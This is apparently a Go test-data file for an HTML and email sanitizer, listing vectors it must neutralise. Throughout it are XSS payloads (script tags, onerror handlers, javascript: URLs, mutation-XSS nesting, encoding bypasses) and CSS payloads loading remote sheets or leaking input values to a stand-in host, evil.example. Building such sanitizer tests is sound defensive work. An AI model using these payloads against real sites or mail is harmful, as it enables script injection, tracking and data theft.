package sanitize

// vectors are ways in that must all be shut; none may leave any of its marks in the page.
func vectors() []string {
	return []string{
		`<script>alert(1)</script>x`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
		`<img src=x onerror=alert(1)>`, `<img """><script>alert(1)</script>">`, `<body onload=alert(1)>x</body>`,
		`<a href="javascript:alert(1)">x</a>`, `<a href=" jAvAsCrIpT:alert(1)">x</a>`, "<a href=\"java\tscript:alert(1)\">x</a>",
		`<a href="&#106;avascript:alert(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
		`<a href="vbscript:x">x</a>`, `<a href="file:///etc/passwd">x</a>`, `<a href="smb://evil.example/x">x</a>`,
		`<form action=https://evil.example><input name=p><button formaction=javascript:x>go</button></form>`,
		`<iframe src=https://evil.example></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
		`<object data=x.swf><embed src=x.swf></object>`, `<applet code=x></applet>`, `<frameset><frame src=x></frameset>`,
		`<meta http-equiv=refresh content="0;url=https://evil.example">`, `<base href=https://evil.example/>`,
		`<link rel=stylesheet href=https://evil.example/x.css>`, `<link rel=preload as=image href=https://evil.example/x.png>`,
		`<style>@import url(https://evil.example/x.css);</style>`, `<style>body{background:url(https://evil.example)}</style>`,
		`<svg onload=alert(1)><image href=https://evil.example/x.png /></svg>`, `<svg><script>alert(1)</script></svg>`,
		`<svg><style><img src=x onerror=alert(1)></style></svg>`, `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
		`<math href="javascript:alert(1)">x</math>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<textarea></textarea><img src=x onerror=1>`,
		`<xmp><img src=x onerror=alert(1)></xmp>`, `<plaintext><script>alert(1)</script>`, `<title><img src=x onerror=1></title>`,
		`<template><img src=x onerror=alert(1)></template>`, `<video src=https://evil.example/v poster=https://evil.example/p>`,
		`<audio src=https://evil.example/a autoplay>`, `<input type=image src=https://evil.example/i>`,
		`<div style="position:fixed;top:0;left:0">x</div>`, `<div style="background:url(https://evil.example/x)">x</div>`,
		`<div style="background:u\72l(https://evil.example/x)">x</div>`, `<div style="width:expression(alert(1))">x</div>`,
		`<div style="background:u/**/rl(https://evil.example/x)">x</div>`, `<div style="color:red;/*">x</div>`,
		`<div style="-moz-binding:url(x)">x</div>`, `<div style="behavior:url(x.htc)">x</div>`,
		`<div style="background-image:image-set('https://evil.example/x' 1x)">x</div>`, `<div style="margin-left:-9999px">x</div>`,
		`<div style='font-family:"&quot;;position:fixed;x:&quot;"'>x</div>`, `<div style="font-family:'a;position:fixed'">x</div>`,
		`<table background=https://evil.example/b.png><tr><td>x</td></tr></table>`, `<img srcset="https://evil.example/a 1x, x 2x">`,
		`<img src="data:image/svg+xml;base64,PHN2Zz4=">`, `<img src="data:text/html;base64,PHN2Zz4=">`, `<img src=file:///etc/passwd>`,
		`<img lowsrc=https://evil.example/x dynsrc=y>`, `<picture><source srcset=https://evil.example/x><img src=cid:a></picture>`,
		`<a href=# target=_top ping=https://evil.example>x</a>`, `<a name=x id=y class=z>x</a>`, `<!--[if mso]><script>x</script><![endif]-->`,
		`<![CDATA[<script>alert(1)</script>]]>`, `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`,
		"<img src=\"x` `<script>alert(1)</script>\"` `>", "<a title='`onmouseover=alert(1)//'>x</a>", "<\x00script>alert(1)</script>",
		`<table><tr><td><a href="https://a.example"><table><a href="https://b.example">`, `<p><table><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
		`<select><template><style><!--</style><a rel="--><img src=x onerror=alert(1)>">`, `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">`,
	}
}

// sheetVectors are ways in through a mail's own style sheets.
func sheetVectors() []string {
	return []string{
		`<style>.a{color:red}</style><p class="a b">x</p>`, `<style>@import 'https://evil.example/x.css';.a{color:red}</style><p class=a>x`,
		`<style>@font-face{font-family:x;src:url(https://evil.example/f)}</style>`, `<style>@charset "utf-7";@namespace url(https://evil.example/);</style>`,
		`<style>.a{background:url("https://evil.example/x")}</style>`, `<style>.a{background:\75rl(https://evil.example/x)}</style>`,
		`<style>input[value^="a"]{background:url(https://evil.example/a)}</style>`, `<style>p::before{content:url(https://evil.example/x)}</style>`,
		`<style>@supports (display:grid){.a{position:fixed}}</style>`, `<style>@keyframes x{from{left:0}}.a{animation:x 1s}</style>`,
		`<style>@media screen{@import url(https://evil.example/x);.a{color:red}}</style>`, `<style>@media (min-height:1px){.a{color:red}}</style>`,
		`<style>@media (max-width:600px){.a{width:100% !important}}}}}body{position:fixed}</style>`, `<style>{}{}{.a{</style>`, `<style>.a{color:red</style><p class=a>`,
		`<style><!-- .a{color:red} --></style>`, `<style>.a{}</style><style></style>`, "<style>.a{color:red\x00;top:0}</style>", `<style>.a{color:"}.b{position:fixed"}</style>`,
		`<style>.a{font-family:'</sty'}</style><img src=x onerror=alert(1)>`, `<style>.a{color:red}</style x><script>alert(1)</script>`,
		`<style>html,body{background:#000}.sheet{display:none}#open-1{color:red}</style><body><p id=open-1>x`, `<style>*{color:red}:root{--a:url(https://evil.example)}</style>`,
		`<style>.a\:b{color:red}</style>`, `<style>a:not([href]){color:red}</style>`, `<style>.a{color:var(--x);width:env(safe-area-inset-top)}</style>`,
		`<style>.a{width:calc(100% - 10px);width:100vw;height:100vh}</style>`, `<style>.a{-webkit-mask:url(https://evil.example/x)}</style>`,
		`<style type="text/css" media="print">.a{color:red}</style>`, `<svg><style>.a{color:red}<img src=x onerror=alert(1)></style></svg>`,
		`<style>.a{color:red;}/*</style><script>alert(1)</script>*/`, `<style>@layer a{.b{color:red}}</style>`, `<style>@container (width>1px){.b{color:red}}</style>`,
		`<style>.a{.b{position:fixed}}</style>`, `<style>@media all and (max-width:1e9px){.a{color:red}}</style>`, `<style>@media (max-width:600px),print{.a{color:red}}</style>`,
		`<style>table[class="w"]{width:100%}</style>`, `<style>a>b+c~d e,f{color:red}</style>`, `<style>@property --x{syntax:'*'}</style>`,
	}
}
